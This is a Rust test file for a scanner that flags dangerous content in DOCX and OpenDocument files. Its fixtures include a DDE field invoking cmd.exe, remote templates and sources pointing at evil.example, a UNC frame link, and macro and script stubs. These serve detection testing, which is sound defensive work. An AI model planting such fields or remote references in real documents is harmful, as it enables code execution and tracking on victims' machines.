//! What DOCX and OpenDocument files must not carry, made here part by part; and that what word processors write is taken.

use reading::{Danger, Kind, danger, kind};

use super::docx::container;

const BODY: (&str, &str) = ("word/document.xml", "<w:document xmlns:w=\"w\"><w:body><w:p/></w:body></w:document>");
const CONTENT: (&str, &str) =
    ("content.xml", "<office:document-content xmlns:office=\"o\"><office:scripts/></office:document-content>");

/// A relation of a part of a DOCX.
fn relation(sort: &str, target: &str, mode: &str) -> String {
    format!(
        "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{sort}\" \
         Target=\"{target}\" TargetMode=\"{mode}\"/></Relationships>"
    )
}

#[test]
fn plain_files_are_taken_and_known_by_what_they_hold() {
    let link = relation("hyperlink", "https://www.itu.int", "External");
    let template = relation("attachedTemplate", "file:///C:\\Templates\\PE_Council.dotx", "External");
    let docx = container(&[BODY, ("word/_rels/document.xml.rels", &link), ("word/_rels/settings.xml.rels", &template)]);
    let odt = container(&[("mimetype", "application/vnd.oasis.opendocument.text"), CONTENT]);

    assert_eq!((danger(&docx), kind(&docx)), (Ok(None), Some(Kind::Docx)));
    assert_eq!((danger(&odt), kind(&odt)), (Ok(None), Some(Kind::Odt)));
    assert_eq!((danger(b"words"), kind(b"words")), (Ok(None), Some(Kind::Text)));
    assert_eq!(kind(b"\xff\xfe\x00"), None);
}

#[test]
fn what_acts_in_a_docx_is_found() {
    let types = "<Types><Override PartName=\"/word/document.xml\" \
        ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
    let cut = "<w:document xmlns:w=\"w\"><w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe\
        </w:instrText></w:r></w:p></w:document>";
    let simple = "<w:hdr xmlns:w=\"w\"><w:fldSimple w:instr=\"DDE Excel x\"/></w:hdr>";
    let [template, page, object, far] = [
        relation("attachedTemplate", "https://evil.example/t.dotm", "External"),
        relation("aFChunk", "chunk.htm", "Internal"),
        relation("oleObject", "embeddings/oleObject1.bin", "Internal"),
        relation("frame", "//server/share/x.htm", "External"),
    ];
    let parts: [(Danger, &str, &str); 11] = [
        (Danger::Macros, "word/vbaProject.bin", "x"),
        (Danger::Macros, "word/VBAPROJECT.BIN", "x"),
        (Danger::Macros, "[Content_Types].xml", types),
        (Danger::Macros, "word/embeddings/sheet.xlsm", "x"),
        (Danger::Script, "word/footer1.xml", cut),
        (Danger::Script, "word/header1.xml", simple),
        (Danger::Embedded, "word/embeddings/oleObject1.bin", "x"),
        (Danger::Embedded, "word/_rels/document.xml.rels", &object),
        (Danger::Embedded, "word/_rels/document.xml.rels", &page),
        (Danger::Remote, "word/_rels/settings.xml.rels", &template),
        (Danger::Remote, "word/_rels/webSettings.xml.rels", &far),
    ];
    for (expected, name, part) in parts {
        assert_eq!(danger(&container(&[BODY, (name, part)])), Ok(Some(expected)), "{name}");
    }
}

#[test]
fn what_acts_in_an_opendocument_file_is_found() {
    let content =
        |inside: &str| format!("<office:document-content xmlns:office=\"o\">{inside}</office:document-content>");
    let parts = [
        (Danger::Macros, "Basic/Standard/Module1.xml", content("")),
        (Danger::Macros, "Scripts/python/a.py", content("")),
        (Danger::Macros, "Object 1/Basic/Standard/Module1.xml", content("")),
        (
            Danger::Macros,
            "content.xml",
            content("<s:event-listener s:event-name=\"dom:load\" x:href=\"vnd.sun.star.script:x\"/>"),
        ),
        (
            Danger::Macros,
            "content.xml",
            content("<text:p><text:script script:language=\"JavaScript\">x</text:script></text:p>"),
        ),
        (Danger::Embedded, "content.xml", content("<draw:object-ole xlink:href=\"./Object 1\"/>")),
        (Danger::Script, "content.xml", content("<text:dde-connection-decl office:dde-application=\"soffice\"/>")),
        (Danger::Remote, "content.xml", content("<text:section-source xlink:href=\"https://evil.example/x.odt\"/>")),
        (Danger::Remote, "meta.xml", content("<meta:template xlink:href=\"https://evil.example/x.ott\"/>")),
        (Danger::Encrypted, "META-INF/manifest.xml", content("<manifest:encryption-data/>")),
    ];
    for (expected, name, part) in parts {
        let other =
            if name == "content.xml" { ("mimetype", "application/vnd.oasis.opendocument.text") } else { CONTENT };
        assert_eq!(danger(&container(&[other, (name, &part)])), Ok(Some(expected)), "{name}: {part}");
    }
}
